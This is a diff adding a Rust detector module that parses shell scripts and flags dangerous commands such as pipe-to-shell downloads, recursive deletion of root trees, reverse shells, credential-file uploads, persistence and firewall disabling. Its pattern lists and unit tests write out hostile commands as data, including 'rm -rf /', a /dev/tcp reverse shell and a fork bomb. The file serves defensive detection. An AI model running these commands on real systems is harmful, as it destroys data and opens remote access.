@@ -1,0 +1,572 @@
+//! Harmful shell commands: run downloaded code, delete files, open remote access, send files away.
+//!
+//! Commands are parsed with their quotes, pipes and substitutions, so `echo "rm -rf /"` is text and `'rm' -rf /` is a
+//! command. Not detected: a command assembled from variables, a here-document that a shell runs, and code in another
+//! language.
+
+mod syntax;
+
+use std::collections::BTreeSet;
+use std::ops::Range;
+
+use super::MAX_FINDINGS;
+use syntax::{Command, Pipeline, Word};
+
+/// The severity of a command.
+#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord)]
+pub enum Severity {
+    /// Rarely needed, and often a step of an attack.
+    Warning,
+    /// Destroys data, opens access or sends data.
+    Error,
+}
+
+impl Severity {
+    /// Returns `warning` or `error`.
+    pub fn as_str(self) -> &'static str {
+        match self {
+            Self::Warning => "warning",
+            Self::Error => "error",
+        }
+    }
+}
+
+/// An unsafe command.
+#[derive(Debug, Clone, PartialEq, Eq)]
+pub struct Issue {
+    /// The effect, such as `PIPE_TO_SHELL`.
+    pub kind: &'static str,
+    /// The bytes of the command or pipeline.
+    pub span: Range<usize>,
+    /// The severity.
+    pub severity: Severity,
+}
+
+/// Substitutions and `bash -c` are followed to this depth.
+const DEPTH: usize = 6;
+
+/// Returns the unsafe commands of a script, in order.
+///
+/// ```
+/// let issues = flowgate_detect::shell::find("cd /tmp && curl https://x.example/i | sudo bash");
+/// assert_eq!((issues[0].kind, issues[0].span.start), ("PIPE_TO_SHELL", 11));
+/// ```
+pub fn find(text: &str) -> Vec<Issue> {
+    let mut finder = Finder::default();
+    finder.script(text, &Place::From(0), 0);
+    let squeezed: String = text.chars().filter(|c| !c.is_whitespace()).collect();
+    if squeezed.contains(":(){:|:&};:") {
+        let start = text.find(':').unwrap_or(0);
+        finder.issues.push(Issue { kind: "FORK_BOMB", span: start..text.len(), severity: Severity::Error });
+    }
+    let mut issues = finder.issues;
+    issues.sort_by_key(|issue| (issue.span.start, issue.span.end));
+    issues.dedup();
+    issues.truncate(MAX_FINDINGS);
+    issues
+}
+
+/// The location of a script in the whole text.
+#[derive(Clone)]
+enum Place {
+    /// From this byte on.
+    From(usize),
+    /// Within these bytes, with other quotes.
+    Within(Range<usize>),
+}
+
+impl Place {
+    fn of(&self, range: Range<usize>) -> Range<usize> {
+        match self {
+            Self::From(offset) => range.start + offset..range.end + offset,
+            Self::Within(whole) => whole.clone(),
+        }
+    }
+}
+
+#[derive(Default)]
+struct Finder {
+    issues: Vec<Issue>,
+    /// Files that were downloaded.
+    fetched: BTreeSet<String>,
+}
+
+impl Finder {
+    fn script(&mut self, text: &str, place: &Place, depth: usize) {
+        for pipeline in syntax::read(text) {
+            if self.issues.len() > 2 * MAX_FINDINGS {
+                return;
+            }
+            let mut report = |kind, span, severity| {
+                self.issues.push(Issue { kind, span: place.of(span), severity });
+            };
+            let calls: Vec<Call<'_>> = pipeline.iter().map(Call::new).collect();
+            let inner = |word: &Word| -> String {
+                word.inner.iter().filter_map(|range| text.get(range.clone())).collect::<Vec<_>>().join("\n")
+            };
+            for (i, call) in calls.iter().enumerate() {
+                call.judge(&mut |kind, severity| report(kind, call.command.span(), severity));
+                let earlier = calls.get(..i).unwrap_or_default();
+                let whole = || whole(&pipeline);
+                if call.reads_script() {
+                    if earlier.iter().any(Call::fetches) {
+                        report("PIPE_TO_SHELL", whole(), Severity::Error);
+                    }
+                    if earlier.iter().any(Call::decodes) {
+                        report("DECODE_TO_SHELL", whole(), Severity::Error);
+                    }
+                }
+                if call.connects() {
+                    if earlier.iter().any(|call| call.is(SHELLS) && call.has("-i")) {
+                        report("REVERSE_SHELL", whole(), Severity::Error);
+                    }
+                    if earlier.iter().any(|call| {
+                        call.reads_sensitive() || call.is(&["tar", "zip"]) || call.dumps_environment()
+                    }) {
+                        report("UPLOAD", whole(), Severity::Error);
+                    }
+                }
+                let substitutions: String = call.words().map(&inner).collect::<Vec<_>>().join("\n");
+                let nested: Vec<Pipeline> =
+                    if substitutions.is_empty() { Vec::new() } else { syntax::read(&substitutions) };
+                let nested = || nested.iter().flatten().map(Call::new);
+                let runs = call.is(INTERPRETERS) || call.is(&["source", "."]);
+                if runs
+                    && (nested().any(|inner| inner.fetches())
+                        || call.words().any(|w| self.fetched.contains(&w.text)))
+                {
+                    report("PIPE_TO_SHELL", call.command.span(), Severity::Error);
+                }
+                if call.fetches() && nested().any(|inner| inner.is(READERS) || inner.dumps_environment()) {
+                    report("UPLOAD", call.command.span(), Severity::Error);
+                }
+            }
+            for call in calls.iter().filter(|call| call.fetches()) {
+                let redirected = call.command.redirects.iter().filter(|(op, _)| op.starts_with('>'));
+                self.fetched.extend(redirected.map(|(_, word)| word.text.clone()));
+                self.fetched.extend(["-o", "-O", "--output"].iter().filter_map(|option| call.value(option)));
+            }
+            if depth < DEPTH {
+                for call in &calls {
+                    for range in call.every_word().flat_map(|word| &word.inner) {
+                        let at = match place {
+                            Place::From(offset) => Place::From(offset + range.start),
+                            within => within.clone(),
+                        };
+                        self.script(text.get(range.clone()).unwrap_or_default(), &at, depth + 1);
+                    }
+                    if let Some((script, span)) = call.script() {
+                        self.script(&script, &Place::Within(place.of(span)), depth + 1);
+                    }
+                }
+            }
+        }
+    }
+}
+
+fn whole(pipeline: &[Command]) -> Range<usize> {
+    let first = pipeline.first().map_or(0, |command| command.span().start);
+    first..pipeline.last().map_or(first, |command| command.span().end)
+}
+
+/// A command without its assignments and wrappers.
+struct Call<'c> {
+    command: &'c Command,
+    /// The program without its directory.
+    name: &'c str,
+    /// Its arguments.
+    arguments: &'c [Word],
+    /// Whether it runs under `sudo` or `doas`.
+    elevated: bool,
+}
+
+const SHELLS: &[&str] = &["sh", "bash", "zsh", "dash", "ksh", "fish", "ash"];
+const INTERPRETERS: &[&str] = &[
+    "sh", "bash", "zsh", "dash", "ksh", "fish", "ash", "python", "python2", "python3", "perl", "ruby",
+    "node", "php",
+];
+const FETCHERS: &[&str] = &["curl", "wget", "fetch", "http", "https", "aria2c"];
+const READERS: &[&str] = &["cat", "base64", "head", "tail", "less", "more", "xxd", "od", "strings"];
+const NETCATS: &[&str] = &["nc", "ncat", "netcat"];
+
+impl<'c> Call<'c> {
+    fn new(command: &'c Command) -> Self {
+        let mut words = command.words.as_slice();
+        let mut elevated = false;
+        while let Some((first, rest)) = words.split_first() {
+            let name = program(&first.text);
+            let assignment = first.text.split_once('=').is_some_and(|(name, _)| {
+                !name.is_empty() && name.chars().all(|c| c.is_ascii_alphanumeric() || c == '_')
+            });
+            let keyword = matches!(
+                name,
+                "then" | "do" | "else" | "elif" | "if" | "while" | "until" | "!" | "{" | "}" | "time"
+            );
+            let wrapper = match name {
+                "sudo" | "doas" => Some("ugpCRTh"),
+                "timeout" => Some("ks"),
+                "nice" | "ionice" => Some("nc"),
+                "nohup" | "exec" | "command" | "builtin" | "stdbuf" | "setsid" | "busybox" => Some(""),
+                "env" if rest.iter().any(|word| !word.text.contains('=') && !word.text.starts_with('-')) => {
+                    Some("uC")
+                }
+                _ => None,
+            };
+            if assignment || keyword {
+                words = rest;
+                continue;
+            }
+            // `sudo su` and `sudo -i` are the command itself.
+            let Some(valued) = wrapper.filter(|_| !rest.is_empty()) else { break };
+            let mut options = rest;
+            while let Some((option, after)) =
+                options.split_first().filter(|(word, _)| word.text.starts_with('-'))
+            {
+                let takes = option.text.len() == 2 && option.text.ends_with(|c| valued.contains(c));
+                options = if takes { after.get(1..).unwrap_or_default() } else { after };
+            }
+            if name == "timeout" {
+                options = options.get(1..).unwrap_or_default();
+            }
+            if options.is_empty() {
+                break;
+            }
+            elevated |= matches!(name, "sudo" | "doas");
+            words = options;
+        }
+        let (name, arguments) = match words.split_first() {
+            Some((first, rest)) => (program(&first.text), rest),
+            None => ("", words),
+        };
+        Self { command, name, arguments, elevated }
+    }
+
+    fn is(&self, names: &[&str]) -> bool {
+        names.contains(&self.name)
+    }
+
+    fn words(&self) -> impl Iterator<Item = &'c Word> + use<'c> {
+        self.arguments.iter()
+    }
+
+    /// Returns all words, including those before the program and in redirections.
+    fn every_word(&self) -> impl Iterator<Item = &'c Word> + use<'c> {
+        self.command.words.iter().chain(self.command.redirects.iter().map(|(_, word)| word))
+    }
+
+    fn texts(&self) -> impl Iterator<Item = &'c str> + use<'c> {
+        self.arguments.iter().map(|word| word.text.as_str())
+    }
+
+    fn has(&self, argument: &str) -> bool {
+        self.texts().any(|text| text == argument)
+    }
+
+    /// Returns whether a letter is among the short options, or the long option is present.
+    fn option(&self, letter: char, long: &str) -> bool {
+        self.texts().any(|text| {
+            text == long || text.starts_with('-') && !text.starts_with("--") && text.contains(letter)
+        })
+    }
+
+    /// Returns the argument after an option, or joined to it.
+    fn value(&self, option: &str) -> Option<String> {
+        let after = self.texts().zip(self.texts().skip(1)).find(|(text, _)| *text == option);
+        let joined = || self.texts().find_map(|text| text.strip_prefix(option)?.strip_prefix('='));
+        after.map(|(_, value)| value).or_else(joined).map(str::to_owned)
+    }
+
+    fn fetches(&self) -> bool {
+        self.is(FETCHERS)
+    }
+
+    fn decodes(&self) -> bool {
+        match self.name {
+            "base64" | "base32" => self.option('d', "--decode") || self.has("-D"),
+            "xxd" => self.option('r', "-revert"),
+            "openssl" => self.option('d', "-d"),
+            "rev" | "tr" => true,
+            _ => false,
+        }
+    }
+
+    /// Returns whether it executes its standard input.
+    fn reads_script(&self) -> bool {
+        let operands = self.texts().filter(|text| !text.starts_with('-')).count();
+        self.is(SHELLS) && (operands == 0 || self.option('s', "-s"))
+            || self.is(INTERPRETERS) && (self.arguments.is_empty() || self.has("-"))
+    }
+
+    /// Returns whether it sends its standard input.
+    fn connects(&self) -> bool {
+        let sends = |text: &str| matches!(text, "-" | "@-") || text.ends_with("=@-");
+        self.is(NETCATS) || self.is(&["socat", "telnet"]) || self.fetches() && self.texts().any(sends)
+    }
+
+    fn reads_sensitive(&self) -> bool {
+        self.texts().any(sensitive)
+            || self.command.redirects.iter().any(|(op, word)| *op == "<" && sensitive(&word.text))
+    }
+
+    fn dumps_environment(&self) -> bool {
+        self.is(&["env", "printenv"]) && self.arguments.is_empty()
+            || self.is(&["export", "declare"]) && self.option('p', "-p")
+            || self.texts().any(|text| text.starts_with("/proc/") && text.ends_with("/environ"))
+    }
+
+    /// Returns a script that is given as an argument.
+    fn script(&self) -> Option<(String, Range<usize>)> {
+        if self.name == "eval" {
+            let all: Vec<_> = self.texts().collect();
+            return Some((all.join(" "), self.command.span()));
+        }
+        let at = self.texts().position(|text| text.starts_with('-') && text.ends_with('c'))?;
+        let word = self.arguments.get(at + 1).filter(|_| self.is(SHELLS) || self.is(&["su"]))?;
+        // Substitutions in double quotes have already been followed.
+        (!word.dynamic).then(|| (word.text.clone(), word.span.clone()))
+    }
+
+    /// Reports the effects of the command on its own.
+    fn judge(&self, report: &mut dyn FnMut(&'static str, Severity)) {
+        use Severity::{Error, Warning};
+        let any = |test: fn(&str) -> bool| self.texts().any(test);
+        let writes = |test: fn(&str) -> bool| {
+            let to_file =
+                self.command.redirects.iter().any(|(op, word)| op.contains('>') && test(&word.text));
+            to_file || self.name == "tee" && self.texts().any(test)
+        };
+        let device = |text: &str| {
+            ["/dev/sd", "/dev/hd", "/dev/vd", "/dev/nvme", "/dev/disk", "/dev/mmcblk", "/dev/mapper"]
+                .iter()
+                .any(|prefix| text.starts_with(prefix))
+        };
+        let socket = |text: &str| text.contains("/dev/tcp/") || text.contains("/dev/udp/");
+        if self.every_word().any(|word| socket(&word.text)) {
+            report("REVERSE_SHELL", Error);
+        }
+        match self.name {
+            "eval" => report("EVAL", if self.words().any(|word| word.dynamic) { Error } else { Warning }),
+            "rm" => {
+                let recursive = self.option('r', "--recursive") || self.option('R', "--recursive");
+                if recursive && any(is_root) || self.has("--no-preserve-root") {
+                    report("REMOVE_ALL", Error);
+                }
+            }
+            "find" if any(is_root) && (self.has("-delete") || self.has("rm")) => report("REMOVE_ALL", Error),
+            "chmod" => {
+                if any(|text| {
+                    matches!(
+                        text,
+                        "777"
+                            | "0777"
+                            | "a+rwx"
+                            | "a=rwx"
+                            | "ugo+rwx"
+                            | "+rwx"
+                            | "o+w"
+                            | "a+w"
+                            | "666"
+                            | "0666"
+                    )
+                }) {
+                    report("WORLD_WRITABLE", Warning);
+                }
+                if any(|text| {
+                    matches!(text, "u+s" | "+s" | "g+s" | "ug+s")
+                        || text.len() == 4 && text.starts_with(['4', '6'])
+                }) {
+                    report("PRIVILEGE", Error);
+                }
+            }
+            "dd" if self.texts().filter_map(|text| text.strip_prefix("of=")).any(device) => {
+                report("DISK_WRITE", Error);
+            }
+            "shred" | "wipefs" | "fdisk" if any(device) => report("DISK_WRITE", Error),
+            "curl" | "wget" | "http" | "https" => {
+                let file =
+                    |text: &str| text.starts_with('@') || text.contains("=@") || text.starts_with("-d@");
+                let option = ["-T", "--upload-file", "--post-file", "--body-file"];
+                if any(file) || option.iter().any(|option| self.value(option).is_some()) {
+                    report("UPLOAD", Error);
+                }
+            }
+            "scp" | "rsync" | "sftp" => {
+                let remote = self.texts().last().is_some_and(|text| text.contains(':'));
+                if remote && any(sensitive) {
+                    report("UPLOAD", Error);
+                }
+            }
+            "nc" | "ncat" | "netcat" => {
+                let runs = self.option('e', "--exec") || self.option('c', "--sh-exec");
+                if runs || any(|text| text.starts_with("--exec=") || text.starts_with("--sh-exec=")) {
+                    report("REVERSE_SHELL", Error);
+                }
+            }
+            "socat"
+                if any(|text| text.to_ascii_uppercase().contains("EXEC:") || text.contains("SYSTEM:")) =>
+            {
+                report("REVERSE_SHELL", Error);
+            }
+            "crontab" if self.arguments.is_empty() || any(|text| text == "-" || !text.starts_with('-')) => {
+                report("PERSISTENCE", Warning);
+            }
+            "history" if self.option('c', "-c") => report("HISTORY", Warning),
+            "unset" if any(|text| text.starts_with("HIST")) => report("HISTORY", Warning),
+            "setenforce" if self.has("0") => report("DISABLE_SECURITY", Error),
+            "iptables" | "ip6tables" | "nft" if self.option('F', "--flush") || self.has("flush") => {
+                report("DISABLE_SECURITY", Error);
+            }
+            "ufw" if self.has("disable") => report("DISABLE_SECURITY", Error),
+            "systemctl" | "service" => {
+                let guard = |text: &str| {
+                    ["firewalld", "ufw", "auditd", "apparmor", "falcon", "iptables"]
+                        .iter()
+                        .any(|name| text.starts_with(name))
+                };
+                if any(guard) && any(|text| matches!(text, "stop" | "disable" | "mask")) {
+                    report("DISABLE_SECURITY", Error);
+                }
+            }
+            "sudo" | "doas" if any(|text| matches!(text, "-i" | "-s")) => report("PRIVILEGE", Warning),
+            "usermod" | "gpasswd" if any(|text| matches!(text, "sudo" | "wheel" | "root" | "docker")) => {
+                report("PRIVILEGE", Error);
+            }
+            name if name.starts_with("mkfs") => report("DISK_WRITE", Error),
+            name if INTERPRETERS.contains(&name) => {
+                let code = |text: &str| {
+                    let has =
+                        |words: &[&str]| words.iter().any(|word| text.to_ascii_lowercase().contains(word));
+                    has(&["socket", "tcpsocket", "fsockopen"])
+                        && has(&["pty.spawn", "/bin/sh", "/bin/bash", "dup2", "subprocess", "exec"])
+                };
+                if any(code) {
+                    report("REVERSE_SHELL", Error);
+                }
+            }
+            _ => {}
+        }
+        if self.elevated && (self.name == "su" || self.is(SHELLS) && self.arguments.is_empty()) {
+            report("PRIVILEGE", Warning);
+        }
+        if writes(device) {
+            report("DISK_WRITE", Error);
+        }
+        if writes(|text| text.starts_with("/etc/sudoers")) {
+            report("PRIVILEGE", Error);
+        }
+        let starts = |text: &str| {
+            [".ssh/authorized_keys", ".bashrc", ".bash_profile", ".profile", ".zshrc"]
+                .iter()
+                .any(|end| text.ends_with(end))
+                || ["/etc/cron", "/etc/profile", "/etc/rc.local", "/etc/systemd/", "/var/spool/cron"]
+                    .iter()
+                    .any(|start| text.starts_with(start))
+        };
+        if writes(starts) {
+            report("PERSISTENCE", Warning);
+        }
+        if self.is(&["rm", "shred", "truncate", "ln"]) && any(|text| text.ends_with("_history"))
+            || writes(|text| text.ends_with("_history"))
+        {
+            report("HISTORY", Warning);
+        }
+        if self.dumps_environment() {
+            report("ENVIRONMENT_DUMP", Warning);
+        }
+        let quiet = ["echo", "printf", "grep", "rg", "git", "ls", "stat", "chmod", "chown", "test", "["];
+        if self.reads_sensitive() && !self.is(&quiet) {
+            report("SENSITIVE_FILE", Warning);
+        }
+    }
+}
+
+fn program(word: &str) -> &str {
+    word.rsplit('/').next().filter(|name| !name.is_empty()).unwrap_or(word)
+}
+
+/// Returns whether a path is a whole tree: the root, a home directory, or a system directory.
+fn is_root(path: &str) -> bool {
+    let path = path.trim_end_matches('*');
+    let path = if path.len() > 1 { path.trim_end_matches('/') } else { path };
+    matches!(
+        path,
+        "/" | "~"
+            | "$HOME"
+            | "${HOME}"
+            | "/root"
+            | "/home"
+            | "/etc"
+            | "/usr"
+            | "/var"
+            | "/bin"
+            | "/boot"
+            | "/lib"
+            | "/opt"
+            | "/sbin"
+            | "/dev"
+            | "/Users"
+            | "/System"
+    )
+}
+
+/// Returns whether a path contains keys or passwords.
+fn sensitive(path: &str) -> bool {
+    let path = path.trim_start_matches('@');
+    let files = [
+        "/etc/shadow",
+        "/etc/gshadow",
+        "/etc/sudoers",
+        ".aws/credentials",
+        ".netrc",
+        ".pgpass",
+        ".git-credentials",
+        ".docker/config.json",
+        ".kube/config",
+        ".npmrc",
+        ".pypirc",
+        ".ssh/config",
+        "/master.key",
+    ];
+    files.iter().any(|file| path.ends_with(file))
+        || path.contains(".ssh/id_") && !path.ends_with(".pub")
+        || path.contains(".gnupg/")
+        || path.starts_with("/proc/") && path.ends_with("/environ")
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn what_is_unsafe() {
+        let check = |text: &str, expected: &[(&str, &str)]| {
+            let found: Vec<_> =
+                find(text).into_iter().map(|issue| (issue.kind, text.get(issue.span).unwrap())).collect();
+            assert_eq!(found, expected, "{text}");
+        };
+        check("ls; curl x | sudo bash -s -- -y", &[("PIPE_TO_SHELL", "curl x | sudo bash -s -- -y")]);
+        check("bash -c \"$(curl x)\"", &[("PIPE_TO_SHELL", "bash -c \"$(curl x)\"")]);
+        check("curl x > i.sh && bash i.sh", &[("PIPE_TO_SHELL", "bash i.sh")]);
+        check("echo x | base64 -d | sh", &[("DECODE_TO_SHELL", "echo x | base64 -d | sh")]);
+        check("a $(rm -rf /) b", &[("REMOVE_ALL", "rm -rf /")]);
+        check("bash -c 'rm -rf ~'", &[("REMOVE_ALL", "'rm -rf ~'")]);
+        check(
+            "FOO=1 sudo -u root timeout 5 rm -r -f /etc/",
+            &[("REMOVE_ALL", "FOO=1 sudo -u root timeout 5 rm -r -f /etc/")],
+        );
+        check("eval $x", &[("EVAL", "eval $x")]);
+        check(
+            "bash -i >& /dev/tcp/1.2.3.4/5 0>&1",
+            &[("REVERSE_SHELL", "bash -i >& /dev/tcp/1.2.3.4/5 0>&1")],
+        );
+        check("echo 'rm -rf /' # eval $x", &[]);
+        check("rm -rf target", &[]);
+        check(":(){ :|:& };:", &[("FORK_BOMB", ":(){ :|:& };:")]);
+    }
+
+    #[test]
+    fn depth_is_bounded() {
+        let deep = format!("{}rm -rf /{}", "$(".repeat(5000), ")".repeat(5000));
+        assert!(find(&deep).is_empty());
+    }
+}
